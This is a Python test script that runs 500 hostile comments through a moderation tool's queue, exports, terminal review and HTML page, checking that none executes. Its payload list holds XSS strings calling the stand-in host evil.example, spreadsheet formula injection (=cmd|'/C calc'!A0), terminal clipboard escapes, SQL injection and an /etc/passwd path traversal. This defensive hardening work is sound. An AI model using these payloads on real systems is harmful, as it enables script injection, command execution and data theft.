#!/usr/bin/env python3
"""500 hostile comments through every export, a browser and a terminal.

usage: hostile.py BTL [--chromium /usr/bin/chromium] [--screenshots FOLDER]

Markup, script, formulas, terminal escapes, bidirectional characters, a comment of 1 MB, NUL. The page is opened in headless Chromium, where
any script but the page's own, any dialog and any request fails the check (playwright from PyPI). `review` runs in a pseudo-terminal; what it
writes may hold no escape but its own. exports.py does the rest.
"""
import argparse, hashlib, json, os, pty, random, re, select, subprocess, sys, tempfile, time

parser = argparse.ArgumentParser()
parser.add_argument("btl")
parser.add_argument("--chromium", default="/usr/bin/chromium")
parser.add_argument("--screenshots")
options = parser.parse_args()
btl = os.path.abspath(options.btl)
rng = random.Random(500)
payloads = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script src=//evil.example/x.js></script>",
    "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "</script><script>alert(1)</script>",
    "</article></main><h1>gone</h1>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<!--", "-->", "]]>", "<![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mtext></table><img src onerror=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)",
    "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "\n=1+1", "'=1+1",
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b[31mred", "\x9b31m", "\x1bP1$r\x1b\\", "\x08\x08\x08", "\x07", "\r overwritten", "\x1b[6n",
    "\x1b]52;c;ZXZpbA==\x07", "\u202ereversed", "\u2066isolate", "\u200f\u200e", "\u061c", "\u2028line", "\u2029paragraph", "\ufeff", "\ufffe",
    "\ufdd0", "\U000e0041\U000e0042", "a" + "\u0301" * 300, "\u0000nul\u0000", "\u007f\u0080\u0085\u009f", "ﷺ" * 50, "🏴‍☠️👩‍👩‍👧",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%s%n%x", "'; DROP TABLE item; --", "\\u003cscript\\u003e", "../../../etc/passwd",
    "\"", "'", "\\", ",", ";", "\r\n", "\n\n\n", " ", "",
]
rows = []
for i in range(500):
    text = "".join(rng.choice(payloads) + rng.choice(["", " ", " word ", "\n"]) for _ in range(rng.randint(1, 4))) if i >= len(payloads) else payloads[i]
    if i == 499:
        text = "<b>" + "x" * 1_000_000
    rows.append({
        "kind": "comment", "id": f"{i}{rng.choice(payloads)[:20]}", "article_id": "a" + rng.choice(payloads[:4]), "author": rng.choice(payloads)[:60],
        "parent_id": "p" + rng.choice(payloads)[:10], "parent_text": rng.choice(payloads), "text": text, "source": rng.choice(payloads[:3])})
folder = tempfile.mkdtemp(prefix="btl-hostile-")
store, dump = f"{folder}/q.sqlite", f"{folder}/dump.jsonl"
with open(dump, "w", encoding="utf-8") as file:
    for article in ["a" + payload for payload in payloads[:4]]:
        file.write(json.dumps({"kind": "article", "id": article, "title": article + payloads[3], "body": "".join(payloads), "url": "javascript:alert(1)"}) + "\n")
    for row in rows:
        file.write(json.dumps(row) + "\n")
print(subprocess.run([btl, "queue", "add", dump, "--store", store], capture_output=True, text=True, check=True).stderr.strip())
for number in range(1, 41):
    note = payloads[number].replace("\0", "") or "-"
    subprocess.run([btl, "queue", "decide", str(number), "--store", store, f"--as={note.strip() or 'x'}", f"--note={note}",
                    "--label=off_topic=yes,conspiracy=no", "--action", "reject" if number % 2 else "approve"], capture_output=True, check=True)
assert subprocess.run([btl, "queue", "verify", "--store", store], capture_output=True).returncode == 0
subprocess.run([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), "exports.py"), btl, store], check=True)

# Terminal: only the escapes that btl itself writes, and no control character but line ends.
own = re.compile(rb"\x1b\[(?:0|1|2|31|32)m|\x1b\[2J|\x1b\[H")


def sane(name, data):
    rest = own.sub(b"", data).decode("utf-8")
    bad = sorted({hex(ord(c)) for c in rest if (ord(c) < 32 and c not in "\n\r") or 0x7F <= ord(c) < 0xA0 or c in "\u200e\u200f\u061c\u2028\u2029"
                  or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069})
    assert not bad, f"{name}: {bad}"
    lone = [line for line in rest.split("\n") if "\r" in line.rstrip("\r")]
    assert not lone, f"{name}: a carriage return within a line: {lone[0]!r}"
    print(f"{name}: {len(data)} bytes, sane")


master, slave = pty.openpty()
import fcntl, struct, termios

fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 100, 0, 0))
before = termios.tcgetattr(slave)
process = subprocess.Popen([btl, "review", "--store", store, "--as", "anna", "--order", "age"], stdin=slave, stdout=slave, stderr=slave)
seen = b""


def drain(seconds):
    global seen
    end = time.time() + seconds
    while time.time() < end:
        if select.select([master], [], [], 0.05)[0]:
            seen += os.read(master, 1 << 16)
            end = max(end, time.time() + 0.1)


drain(2)
for i in range(470):
    os.write(master, b"ms" if i % 50 else b"1s")
    drain(0.05)
os.write(master, b"q")
drain(2)
assert process.wait(20) == 0
assert termios.tcgetattr(slave) == before, "the terminal was left in another mode"
sane("review", seen)
for command in (["list"], ["next", "--as", "bert", "--count", "500"], ["stats"]):
    sane(command[0], subprocess.run([btl, "queue", *command, "--store", store], capture_output=True).stdout)

# Browser.
page_path = f"{folder}/queue.html"
subprocess.run([btl, "queue", "export", "--store", store, "--to", "html", "--output", page_path], check=True, capture_output=True)
from playwright.sync_api import sync_playwright

own_script = re.search(r"<script>(.*)</script></body></html>\s*$", open(page_path, encoding="utf-8", newline="").read(), re.S)[1]
faults, scripts = [], []
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(executable_path=options.chromium, args=["--no-sandbox"])
    page = browser.new_page(viewport={"width": 1000, "height": 1400})
    session = page.context.new_cdp_session(page)
    session.on("Debugger.scriptParsed", lambda event: scripts.append(event))
    session.send("Debugger.enable")
    page.on("dialog", lambda dialog: (faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: request.url == f"file://{page_path}" or faults.append(f"request {request.url[:80]}"))
    page.on("popup", lambda popup: faults.append("popup"))
    page.on("pageerror", lambda error: faults.append(f"error {error}"))
    page.on("console", lambda message: faults.append(f"console {message.text[:200]}"))
    page.goto(f"file://{page_path}")
    page.wait_for_timeout(1500)
    cards = page.locator(".comment")
    assert cards.count() == 500, cards.count()
    assert page.locator("#count").inner_text() == "500 of 500 comments"
    if options.screenshots:
        page.screenshot(path=f"{options.screenshots}/hostile.png")
    page.select_option("#sort", "s0")
    page.select_option("#state", "rejected")
    assert page.locator("#count").inner_text() == "20 of 500 comments", page.locator("#count").inner_text()
    page.select_option("#state", "")
    page.fill("#search", "onerror")
    page.wait_for_timeout(300)
    found = page.locator("#count").inner_text()
    page.keyboard.press("Tab")
    page.fill("#search", "")
    page.select_option("#sort", "")
    page.locator(".comment").nth(0).focus()
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.className").startswith("comment")
    for index in range(0, 500, 25):
        cards.nth(index).hover()
    if options.screenshots:
        page.set_viewport_size({"width": 390, "height": 844})
        page.screenshot(path=f"{options.screenshots}/hostile-phone.png")
    own = hashlib.sha256(own_script.encode()).hexdigest()
    foreign = [s for s in scripts if s["url"] == f"file://{page_path}" and session.send("Debugger.getScriptSource", {"scriptId": s["scriptId"]})["scriptSource"] != own_script]
    browser.close()
assert not faults, faults[:10]
assert not foreign, foreign[:3]
print(f"browser: 500 comments, search found {found}; no dialog, request, error or script of others ({own[:12]} is ours)")
